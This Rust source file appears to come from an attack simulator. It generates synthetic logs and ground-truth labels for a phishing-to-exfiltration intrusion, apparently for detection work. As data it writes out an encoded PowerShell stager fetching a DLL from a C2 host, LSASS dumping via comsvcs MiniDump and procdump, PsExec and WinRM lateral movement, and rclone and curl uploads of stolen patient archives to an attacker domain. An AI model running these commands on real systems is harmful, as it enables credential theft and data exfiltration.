//! The first wave: phishing to exfiltration, within one working day.

use base64::Engine as _;
use rand::Rng;

use super::Attacker;
use crate::activity::{Launch, Logon, Proc, Scene};
use crate::background::{lsass, ADMIN_VPN};
use crate::clock::{Micros, HOUR, MINUTE, SECOND};
use crate::estate::{Account, Role};
use crate::truth::{AccountUse, Exfiltration, Method};
use crate::{clock, random};

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const RUNDLL32: &str = "C:\\Windows\\System32\\rundll32.exe";
/// Where the attacker keeps its tools and loot on servers.
pub(super) const STASH: &str = "C:\\ProgramData\\Intel\\Logs";

pub(super) fn run(a: &mut Attacker) {
    support_session(a);
    let shell = phishing(a);
    a.shell = Some(shell.clone());
    beacon(a);
    discovery(a, &shell);
    credential_dumping(a, &shell);
    let fs = a.host(Role::FileServer);
    let rdp_time = a.first + 2 * HOUR + a.rng.random_range(0..20 * MINUTE);
    rdp(a, fs, rdp_time);
    psexec_to_database(a, &shell);
    winrm_to_app(a, &shell);
    let volumes = staging(a, fs);
    exfiltration(a, fs, volumes);
}

/// Start `image` as `user` under `parent` on the scene's host.
pub(super) fn run_as(
    s: &mut Scene,
    t: Micros,
    image: &str,
    command_line: String,
    parent: &Proc,
    integrity: &'static str,
) -> Proc {
    let user = parent.user.clone();
    let logon_id = parent.logon_id.clone();
    let directory = if user.sid == "S-1-5-18" {
        "C:\\Windows\\system32\\".to_string()
    } else {
        format!("C:\\Users\\{}\\", user.name)
    };
    s.launch(
        t,
        &Launch {
            image,
            command_line,
            parent,
            user: &user,
            logon_id: &logon_id,
            integrity,
            current_directory: &directory,
            original_file_name: None,
        },
    )
}

/// Earlier that morning an administrator helped the doctor over RDP: the
/// admin's credentials stay in LSASS on the workstation.
fn support_session(a: &mut Attacker) {
    let pz = a.patient_zero;
    let admin = a.admin.clone();
    let t = a.first - 50 * MINUTE;
    let mut s = Scene {
        estate: a.estate,
        host: &a.estate.hosts[pz],
        rng: &mut a.rng,
        out: &mut a.setup[pz],
    };
    let ip = format!("{ADMIN_VPN}{}", s.rng.random_range(10..40));
    s.logon(
        t,
        &Logon {
            account: &admin,
            logon_type: 10,
            source_ip: &ip,
            source_workstation: "NB-IT-01",
            privileged: true,
            logoff_after: Some(14 * MINUTE),
        },
    );
}

/// The attachment runs and starts a hidden, encoded PowerShell; returns the
/// shell the attacker works from afterwards (a cmd.exe under the implant).
fn phishing(a: &mut Attacker) -> Proc {
    let pz = a.patient_zero;
    let t = a.first;
    let victim = a.victim.clone();
    let infra_domain = a.infra.c2_domain.clone();
    let c2_ip = a.infra.c2_ip.clone();
    let script_variant = a.rng.random_bool(0.35);
    let mut s = a.on(pz);
    let explorer = s.existing(
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        &victim,
    );
    let outlook_image = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
    let outlook = s.existing(outlook_image, &format!("\"{outlook_image}\""), &victim);
    let _ = explorer;
    let folder = format!(
        "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}",
        victim.name,
        random::hex(s.rng, 8)
    );
    let number = s.rng.random_range(1000..9999);
    let stager = format!(
        "$u='https://{infra_domain}/c/{}';$p=\"$env:TEMP\\{}.dll\";(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process rundll32.exe -ArgumentList \"$p,DllRegisterServer\" -WindowStyle Hidden",
        random::letters(s.rng, 6),
        random::letters(s.rng, 8)
    );
    let utf16: Vec<u8> = stager
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(utf16);
    let (opener, step_time, how) = if script_variant {
        let path = format!("{folder}\\Befund_{number}.js");
        s.file(t - 20 * SECOND, &outlook, &path);
        let wscript = run_as(
            &mut s,
            t,
            "C:\\Windows\\System32\\wscript.exe",
            format!("\"C:\\Windows\\System32\\WScript.exe\" \"{path}\""),
            &outlook,
            "Medium",
        );
        (
            wscript,
            t,
            format!("opened the script attachment Befund_{number}.js from Outlook"),
        )
    } else {
        let path = format!("{folder}\\Befund_{number}.docm");
        s.file(t - 20 * SECOND, &outlook, &path);
        let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        let word = run_as(
            &mut s,
            t - 15 * SECOND,
            word,
            format!("\"{word}\" /n \"{path}\" /o \"\""),
            &outlook,
            "Medium",
        );
        (word, t + 5 * SECOND, format!("opened the macro document Befund_{number}.docm from Outlook; Word started PowerShell"))
    };
    let ps_time = t + 5 * SECOND;
    let ps = run_as(
        &mut s,
        ps_time,
        POWERSHELL,
        format!("powershell.exe -nop -w hidden -enc {encoded}"),
        &opener,
        "Medium",
    );
    s.script_block(ps_time + 2 * SECOND, &stager, "");
    s.resolve(ps_time + 3 * SECOND, &ps, &infra_domain, &[&c2_ip]);
    s.connect(
        ps_time + 3 * SECOND,
        &ps,
        &c2_ip,
        &infra_domain,
        443,
        "ssl",
        900,
        412_000,
        2 * SECOND,
    );
    let dll = format!(
        "C:\\Users\\{}\\AppData\\Local\\Temp\\{}.dll",
        victim.name,
        random::letters(s.rng, 8)
    );
    s.file(ps_time + 6 * SECOND, &ps, &dll);
    let implant_time = ps_time + 8 * SECOND;
    let implant = run_as(
        &mut s,
        implant_time,
        RUNDLL32,
        format!("\"{RUNDLL32}\" {dll},DllRegisterServer"),
        &ps,
        "Medium",
    );
    let shell = run_as(
        &mut s,
        implant_time + 25 * MINUTE,
        CMD,
        CMD.to_string(),
        &implant,
        "High",
    );
    a.implant = Some(implant);
    a.step(
        "phishing_attachment",
        pz,
        step_time,
        "T1566.001",
        format!("{} {how}", victim.qualified()),
    );
    a.step(
        "encoded_powershell",
        pz,
        ps_time,
        "T1059.001",
        "hidden PowerShell with an encoded command downloaded the implant".into(),
    );
    a.step(
        "implant_execution",
        pz,
        implant_time,
        "T1218.011",
        format!("rundll32 ran the implant {dll}"),
    );
    a.accounts.push(AccountUse {
        account: victim.qualified(),
        reason: format!("phished: ran the attachment on {}", a.estate.hosts[pz].name),
    });
    shell
}

/// The implant calls home at a fixed interval with same-sized requests until
/// shortly after the encryption.
fn beacon(a: &mut Attacker) {
    let pz = a.patient_zero;
    let implant = a.implant.clone().expect("implant runs");
    let interval = *random::pick(&mut a.rng, &[120, 180, 300]) * SECOND;
    let first = implant.pid as Micros % 20 * SECOND + a.first + 30 * SECOND;
    let last = (a.second + 90 * MINUTE).min(a.end - MINUTE);
    let (ip, domain) = (a.infra.c2_ip.clone(), a.infra.c2_domain.clone());
    let mut s = a.on(pz);
    let mut t = first;
    let mut resolved = 0;
    while t < last {
        if t - resolved >= HOUR {
            s.resolve(t - 40_000, &implant, &domain, &[&ip]);
            resolved = t;
        }
        let up = 1_180 + s.rng.random_range(0..24);
        let down = 3_320 + s.rng.random_range(0..40);
        let duration = 420_000 + s.rng.random_range(0..80_000);
        s.connect(t, &implant, &ip, &domain, 443, "ssl", up, down, duration);
        t += interval + s.rng.random_range(0..interval / 50);
    }
    let name = a.estate.hosts[pz].name.clone();
    a.step(
        "c2_beacon",
        pz,
        first,
        "T1071.001",
        format!(
            "implant on {name} beacons to {domain} ({ip}) every {} s",
            interval / SECOND
        ),
    );
}

fn discovery(a: &mut Attacker, shell: &Proc) {
    let pz = a.patient_zero;
    let mut t = shell_time(a);
    let commands: &[(&str, String)] = &[
        ("C:\\Windows\\System32\\whoami.exe", "whoami /all".into()),
        (
            "C:\\Windows\\System32\\ipconfig.exe",
            "ipconfig /all".into(),
        ),
        (
            "C:\\Windows\\System32\\net.exe",
            "net group \"domain admins\" /domain".into(),
        ),
        (
            "C:\\Windows\\System32\\nltest.exe",
            format!("nltest /dclist:{}", crate::estate::DOMAIN),
        ),
        (
            "C:\\Windows\\System32\\net.exe",
            "net localgroup administrators".into(),
        ),
    ];
    let mut group_time = t;
    let mut s = a.on(pz);
    for (image, command) in commands {
        t += s.rng.random_range(5 * SECOND..40 * SECOND);
        if command.contains("domain admins") {
            group_time = t;
        }
        run_as(&mut s, t, image, command.clone(), shell, "High");
    }
    a.step(
        "discovery",
        pz,
        group_time,
        "T1087.002",
        "enumerated domain admins, domain controllers and the local configuration".into(),
    );
}

fn shell_time(a: &Attacker) -> Micros {
    a.first + 5 * SECOND + 8 * SECOND + 25 * MINUTE
}

fn credential_dumping(a: &mut Attacker, shell: &Proc) {
    let pz = a.patient_zero;
    let t = a.first + 70 * MINUTE + a.rng.random_range(0..10 * MINUTE);
    let procdump = a.rng.random_bool(0.4);
    let mut s = a.on(pz);
    let lsass = lsass(&mut s);
    let dump = format!("C:\\Windows\\Temp\\{}.dmp", random::letters(s.rng, 6));
    let (dumper, trace) = if procdump {
        let tool = format!("C:\\ProgramData\\{}.exe", random::letters(s.rng, 5));
        let user = shell.user.clone();
        let logon_id = shell.logon_id.clone();
        let p = s.launch(
            t,
            &Launch {
                image: &tool,
                command_line: format!("{tool} -accepteula -ma lsass.exe {dump}"),
                parent: shell,
                user: &user,
                logon_id: &logon_id,
                integrity: "High",
                current_directory: "C:\\ProgramData\\",
                original_file_name: Some("procdump"),
            },
        );
        (p, "C:\\Windows\\SYSTEM32\\ntdll.dll+9f7a4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbghelp.dll+1e6f2|C:\\Windows\\SYSTEM32\\dbghelp.dll+1f0ab".to_string())
    } else {
        let command = format!(
            "\"{RUNDLL32}\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full",
            lsass.pid
        );
        let p = run_as(&mut s, t, RUNDLL32, command, shell, "High");
        (p, "C:\\Windows\\SYSTEM32\\ntdll.dll+9f7a4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\dbgcore.DLL+6b4d|C:\\Windows\\System32\\comsvcs.dll+4aa1c".to_string())
    };
    s.access(t + 600_000, &dumper, &lsass, "0x1fffff", trace);
    s.file(t + 3 * SECOND, &dumper, &dump);
    let how = if procdump {
        "a renamed procdump"
    } else {
        "comsvcs.dll MiniDump"
    };
    a.step(
        "credential_dumping",
        pz,
        t + 600_000,
        "T1003.001",
        format!("dumped LSASS memory with {how} to {dump}"),
    );
    let admin = a.admin.qualified();
    let name = a.estate.hosts[pz].name.clone();
    a.accounts.push(AccountUse {
        account: admin,
        reason: format!("stolen: its credentials were in LSASS on {name} after a support session and were dumped"),
    });
}

/// The attacker logs on to `target` over RDP with the stolen admin account,
/// tunnelled through the implant on patient zero.
pub(super) fn rdp(a: &mut Attacker, target: usize, t: Micros) -> (Proc, String) {
    let pz = a.patient_zero;
    let admin = a.admin.clone();
    let implant = a.implant.clone().expect("implant runs");
    let (src_ip, src_name) = (
        a.estate.hosts[pz].ip.clone(),
        a.estate.hosts[pz].name.clone(),
    );
    let (dst_ip, dst_name) = (
        a.estate.hosts[target].ip.clone(),
        a.estate.hosts[target].fqdn(),
    );
    let mut s = a.on(pz);
    let session = s.rng.random_range(40 * MINUTE..70 * MINUTE);
    s.connect(
        t - 3 * SECOND,
        &implant,
        &dst_ip,
        &dst_name,
        3389,
        "rdp",
        2_400_000,
        31_000_000,
        session,
    );
    let mut s = a.on(target);
    let logon_id = s.logon(
        t,
        &Logon {
            account: &admin,
            logon_type: 10,
            source_ip: &src_ip,
            source_workstation: &src_name,
            privileged: true,
            logoff_after: None,
        },
    );
    let system = s.estate.system.clone();
    let winlogon = s.existing(
        "C:\\Windows\\System32\\winlogon.exe",
        "winlogon.exe",
        &system,
    );
    let launch = |image: &'static str| Launch {
        image,
        command_line: image.to_string(),
        parent: &winlogon,
        user: &admin,
        logon_id: &logon_id,
        integrity: "High",
        current_directory: "C:\\Windows\\system32\\",
        original_file_name: None,
    };
    let userinit = s.launch(
        t + 2 * SECOND,
        &launch("C:\\Windows\\System32\\userinit.exe"),
    );
    let explorer = s.launch(
        t + 4 * SECOND,
        &Launch {
            parent: &userinit,
            ..launch("C:\\Windows\\explorer.exe")
        },
    );
    let target_name = a.estate.hosts[target].name.clone();
    a.step(
        "lateral_movement_rdp",
        target,
        t,
        "T1021.001",
        format!(
            "RDP logon as {} from {src_name} to {target_name}",
            admin.qualified()
        ),
    );
    a.moved(pz, target, t, Method::Rdp);
    (explorer, logon_id)
}

/// PsExec-style: a service binary copied over SMB and installed remotely.
/// Returns the service process on the target.
pub(super) fn psexec(
    a: &mut Attacker,
    from: usize,
    target: usize,
    t: Micros,
    parent: &Proc,
    remote_command: &str,
) -> Proc {
    let admin = a.admin.clone();
    let (src_ip, src_name) = (
        a.estate.hosts[from].ip.clone(),
        a.estate.hosts[from].name.clone(),
    );
    let target_host = &a.estate.hosts[target];
    let (dst_ip, dst_fqdn, dst_name) = (
        target_host.ip.clone(),
        target_host.fqdn(),
        target_host.name.clone(),
    );
    let renamed = a.rng.random_bool(0.5);
    let service = if renamed {
        random::letters(&mut a.rng, 8).to_uppercase()
    } else {
        "PSEXESVC".to_string()
    };
    let mut s = a.on(from);
    let tool = "C:\\ProgramData\\Intel\\PsExec64.exe";
    let p = run_as(
        &mut s,
        t - 4 * SECOND,
        tool,
        format!("{tool} \\\\{dst_name} -accepteula -s {remote_command}"),
        parent,
        "High",
    );
    s.connect(
        t - 3 * SECOND,
        &p,
        &dst_ip,
        &dst_fqdn,
        445,
        "smb",
        410_000,
        24_000,
        90 * SECOND,
    );
    let mut s = a.on(target);
    s.logon(
        t - 2 * SECOND,
        &Logon {
            account: &admin,
            logon_type: 3,
            source_ip: &src_ip,
            source_workstation: &src_name,
            privileged: true,
            logoff_after: Some(2 * MINUTE),
        },
    );
    let image_path = format!("%SystemRoot%\\{service}.exe");
    s.install_service(t, &admin, &service, &image_path, "demand start");
    s.service_state(t + SECOND, &service, "running");
    let system = s.estate.system.clone();
    let services = s.existing(
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\services.exe",
        &system,
    );
    let binary = format!("C:\\Windows\\{service}.exe");
    let service_proc = s.launch(
        t + SECOND,
        &Launch {
            image: &binary,
            command_line: binary.clone(),
            parent: &services,
            user: &system,
            logon_id: "0x3E7",
            integrity: "System",
            current_directory: "C:\\Windows\\system32\\",
            original_file_name: Some("psexesvc.exe"),
        },
    );
    s.service_state(t + 90 * SECOND, &service, "stopped");
    a.step(
        "lateral_movement_psexec",
        target,
        t,
        "T1569.002",
        format!(
            "service {service} installed over SMB from {src_name} as {}",
            admin.qualified()
        ),
    );
    a.moved(from, target, t, Method::SmbPsexec);
    service_proc
}

fn psexec_to_database(a: &mut Attacker, shell: &Proc) {
    let db = a.host(Role::DatabaseServer);
    let t = a.first + 2 * HOUR + 40 * MINUTE + a.rng.random_range(0..10 * MINUTE);
    let pz = a.patient_zero;
    let query = "cmd.exe /c sqlcmd -E -Q \"SELECT name, create_date FROM sys.databases\"";
    let service = psexec(a, pz, db, t, shell, query);
    let mut s = a.on(db);
    let cmd = run_as(
        &mut s,
        t + 2 * SECOND,
        CMD,
        query.to_string(),
        &service,
        "System",
    );
    run_as(
        &mut s,
        t + 3 * SECOND,
        "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
        "sqlcmd -E -Q \"SELECT name, create_date FROM sys.databases\"".into(),
        &cmd,
        "System",
    );
}

fn winrm_to_app(a: &mut Attacker, shell: &Proc) {
    let app = a.host(Role::AppServer);
    let pz = a.patient_zero;
    let t = a.first + 3 * HOUR + 10 * MINUTE + a.rng.random_range(0..10 * MINUTE);
    let admin = a.admin.clone();
    let (src_ip, src_name) = (
        a.estate.hosts[pz].ip.clone(),
        a.estate.hosts[pz].name.clone(),
    );
    let (dst_ip, dst_fqdn, dst_name) = (
        a.estate.hosts[app].ip.clone(),
        a.estate.hosts[app].fqdn(),
        a.estate.hosts[app].name.clone(),
    );
    let config = "C:\\inetpub\\PatientPortal\\web.config";
    let mut s = a.on(pz);
    let ps = run_as(
        &mut s,
        t - 5 * SECOND,
        POWERSHELL,
        format!("powershell.exe -nop -c \"Invoke-Command -ComputerName {dst_name} -Credential $c -ScriptBlock {{ cmd /c type {config} }}\""),
        shell,
        "High",
    );
    s.connect(
        t - 4 * SECOND,
        &ps,
        &dst_ip,
        &dst_fqdn,
        5985,
        "http",
        18_000,
        9_000,
        12 * SECOND,
    );
    let mut s = a.on(app);
    let logon_id = s.logon(
        t - 3 * SECOND,
        &Logon {
            account: &admin,
            logon_type: 3,
            source_ip: &src_ip,
            source_workstation: &src_name,
            privileged: true,
            logoff_after: Some(MINUTE),
        },
    );
    let system = s.estate.system.clone();
    let launcher = s.existing(
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
        &system,
    );
    let host = s.launch(
        t - 2 * SECOND,
        &Launch {
            image: "C:\\Windows\\System32\\wsmprovhost.exe",
            command_line: "C:\\Windows\\system32\\wsmprovhost.exe -Embedding".into(),
            parent: &launcher,
            user: &admin,
            logon_id: &logon_id,
            integrity: "High",
            current_directory: "C:\\Users\\Default\\Documents\\",
            original_file_name: None,
        },
    );
    run_as(
        &mut s,
        t,
        CMD,
        format!("\"{CMD}\" /c type {config}"),
        &host,
        "High",
    );
    let app_name = a.estate.hosts[app].name.clone();
    a.step(
        "lateral_movement_winrm",
        app,
        t,
        "T1021.006",
        format!(
            "WinRM session as {} from {src_name} to {app_name} read the portal's configuration",
            admin.qualified()
        ),
    );
    a.moved(pz, app, t, Method::Winrm);
}

/// Packs the patient documents into password-protected archive volumes;
/// returns the volumes' paths and sizes.
fn staging(a: &mut Attacker, fs: usize) -> Vec<(String, u64)> {
    let t = a.first + 5 * HOUR + a.rng.random_range(0..30 * MINUTE);
    let rar = a.rng.random_bool(0.4);
    let password = format!(
        "{}{}",
        random::letters(&mut a.rng, 6),
        a.rng.random_range(10..99)
    );
    let total: u64 = a.rng.random_range(3_000_000_000..9_000_000_000);
    let admin = a.admin.clone();
    let mut s = a.on(fs);
    let explorer = s.existing(
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        &admin,
    );
    let cmd = run_as(
        &mut s,
        t - MINUTE,
        CMD,
        format!("\"{CMD}\""),
        &explorer,
        "High",
    );
    let (tool, command, archive, original) = if rar {
        let tool = "C:\\ProgramData\\Intel\\rar.exe";
        let archive = format!("{STASH}\\p.rar");
        (
            tool,
            format!("{tool} a -hp{password} -m1 -v1g {archive} D:\\Patients\\"),
            archive,
            "WinRAR.exe",
        )
    } else {
        let tool = "C:\\ProgramData\\Intel\\7za.exe";
        let archive = format!("{STASH}\\p.7z");
        (
            tool,
            format!("{tool} a -t7z -mx1 -v1g -p{password} -mhe=on {archive} D:\\Patients\\*"),
            archive,
            "7za.exe",
        )
    };
    let user = admin.clone();
    let logon_id = cmd.logon_id.clone();
    let packer = s.launch(
        t,
        &Launch {
            image: tool,
            command_line: command,
            parent: &cmd,
            user: &user,
            logon_id: &logon_id,
            integrity: "High",
            current_directory: "C:\\ProgramData\\Intel\\",
            original_file_name: Some(original),
        },
    );
    let gigabyte = 1_073_741_824u64;
    let count = total.div_ceil(gigabyte);
    let mut volumes = Vec::new();
    for i in 0..count {
        let path = if rar {
            format!("{STASH}\\p.part{:02}.rar", i + 1)
        } else {
            format!("{archive}.{:03}", i + 1)
        };
        let size = if i + 1 == count {
            total - gigabyte * (count - 1)
        } else {
            gigabyte
        };
        s.file(t + (i as Micros + 1) * 90 * SECOND, &packer, &path);
        volumes.push((path, size));
    }
    a.step(
        "data_staging",
        fs,
        t,
        "T1560.001",
        format!("patient documents packed into {count} password-protected volumes of {archive}"),
    );
    volumes
}

/// Uploads the volumes to the attacker's storage over HTTPS, in many transfers
/// over a few hours.
fn exfiltration(a: &mut Attacker, fs: usize, volumes: Vec<(String, u64)>) {
    let t = a.first + 6 * HOUR + a.rng.random_range(0..30 * MINUTE);
    let rclone = a.rng.random_bool(0.6);
    let admin: Account = a.admin.clone();
    let (ip, domain) = (a.infra.drop_ip.clone(), a.infra.drop_domain.clone());
    let mut s = a.on(fs);
    let explorer = s.existing(
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        &admin,
    );
    let cmd = run_as(
        &mut s,
        t - MINUTE,
        CMD,
        format!("\"{CMD}\""),
        &explorer,
        "High",
    );
    let uploader = |s: &mut Scene, at: Micros, volume: &str| -> Proc {
        let (image, command, original) = if rclone {
            let image = "C:\\ProgramData\\Intel\\rclone.exe";
            (image, format!("{image} copy {STASH} drop:archive --transfers 4 --no-check-certificate --config C:\\ProgramData\\Intel\\rc.conf"), "rclone.exe")
        } else {
            let image = "C:\\Windows\\System32\\curl.exe";
            (
                image,
                format!("curl.exe -k -s -T {volume} https://{domain}/upload/"),
                "curl.exe",
            )
        };
        let logon_id = cmd.logon_id.clone();
        s.launch(
            at,
            &Launch {
                image,
                command_line: command,
                parent: &cmd,
                user: &admin,
                logon_id: &logon_id,
                integrity: "High",
                current_directory: "C:\\ProgramData\\Intel\\",
                original_file_name: Some(original),
            },
        )
    };
    let mut proc = uploader(&mut s, t, &volumes[0].0);
    s.resolve(t + SECOND, &proc, &domain, &[&ip]);
    let mut at = t + 2 * SECOND;
    let (mut bytes, mut end) = (0u64, at);
    let span = s.rng.random_range(2 * HOUR..3 * HOUR + 30 * MINUTE);
    let total: u64 = volumes.iter().map(|v| v.1).sum();
    for (i, (path, size)) in volumes.iter().enumerate() {
        if i > 0 && !rclone {
            proc = uploader(&mut s, at, path);
        }
        let mut left = *size;
        while left > 0 {
            let chunk = left.min(s.rng.random_range(150_000_000..400_000_000));
            let duration = (span as f64 * chunk as f64 / total as f64) as Micros;
            let flow = s.connect(
                at,
                &proc,
                &ip,
                &domain,
                443,
                "ssl",
                chunk,
                chunk / 300,
                duration,
            );
            bytes += flow.bytes_out;
            end = end.max(flow.time + flow.duration);
            at += duration + s.rng.random_range(SECOND..20 * SECOND);
            left -= chunk;
        }
    }
    let source = &a.estate.hosts[fs];
    a.exfiltration.push(Exfiltration {
        source_host: source.name.clone(),
        source_ip: source.ip.clone(),
        destination_ip: ip.clone(),
        destination_hostname: domain.clone(),
        bytes,
        start: clock::rfc3339(t + 2 * SECOND),
        end: clock::rfc3339(end),
    });
    let tool = if rclone { "rclone" } else { "curl" };
    a.step(
        "exfiltration",
        fs,
        t,
        "T1567.002",
        format!("{bytes} bytes uploaded with {tool} to {domain} ({ip})"),
    );
}
